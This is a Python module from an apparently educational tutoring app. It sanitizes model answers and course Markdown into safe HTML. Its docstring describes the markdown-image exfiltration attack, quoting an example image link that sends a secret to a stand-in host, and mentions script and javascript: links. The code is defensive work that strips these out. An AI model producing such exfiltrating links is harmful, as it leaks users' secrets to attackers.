"""Text as sanitized HTML: Markdown without raw HTML, without images, with safe links only. For the model's
answers (tutor.chat.payloads) and for Markdown course texts in the reader view (courses.views.passage).

A model can be talked into writing ``![x](https://evil.example/?q=<secret>)`` (the markdown-image
exfiltration attack) or ``<script>``/``javascript:`` links; none of that survives: raw HTML is escaped
before Markdown runs, images are dropped, and nh3 keeps only an allow-list of tags and http(s) links.
"""

import html
import re

import markdown
import nh3
from markdown.treeprocessors import Treeprocessor

ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h3", "h4", "h5",
                "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "hr", "sup"}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "class"}}
_CITATION = re.compile(r"\[(\d{1,2})\]")
_VERBATIM = re.compile(r"(<(pre|code|a)\b[^>]*>.*?</\2>)", re.DOTALL)  # no citation links in code or links


class _NoImages(Treeprocessor):
    """Replaces every image by its alt text, so no remote resource is ever loaded."""

    def run(self, root):
        for parent in root.iter():
            for child in list(parent):
                if child.tag == "img":
                    index = list(parent).index(child)
                    alt = child.get("alt") or ""
                    parent.remove(child)
                    if index == 0:
                        parent.text = (parent.text or "") + alt + (child.tail or "")
                    else:
                        previous = parent[index - 1]
                        previous.tail = (previous.tail or "") + alt + (child.tail or "")


class _Extension(markdown.Extension):
    def extendMarkdown(self, md):  # noqa: N802
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        md.treeprocessors.register(_NoImages(md), "no_images", 0)


def render_markdown(text, citation_urls=None):
    """Safe HTML for model output; [n] becomes a link to source n when citation_urls has it."""
    md = markdown.Markdown(extensions=["fenced_code", "tables", "sane_lists", _Extension()])
    body = md.convert(text or "")
    if citation_urls:
        def link(match):
            url = citation_urls.get(int(match.group(1)))
            if not url:
                return match.group(0)
            return f'<a class="cite" href="{html.escape(url)}">[{match.group(1)}]</a>'

        body = "".join(part if _VERBATIM.fullmatch(part) else _CITATION.sub(link, part)
                       for part in _split_verbatim(body))
    return nh3.clean(body, tags=ALLOWED_TAGS, attributes=ALLOWED_ATTRIBUTES, url_schemes={"http", "https"},
                     link_rel="noopener noreferrer nofollow", strip_comments=True)


def _split_verbatim(body):
    """The HTML cut into code blocks, inline code and links (kept as they are) and the text between them."""
    parts, last = [], 0
    for match in _VERBATIM.finditer(body):
        parts.extend([body[last:match.start()], match.group(0)])
        last = match.end()
    parts.append(body[last:])
    return parts
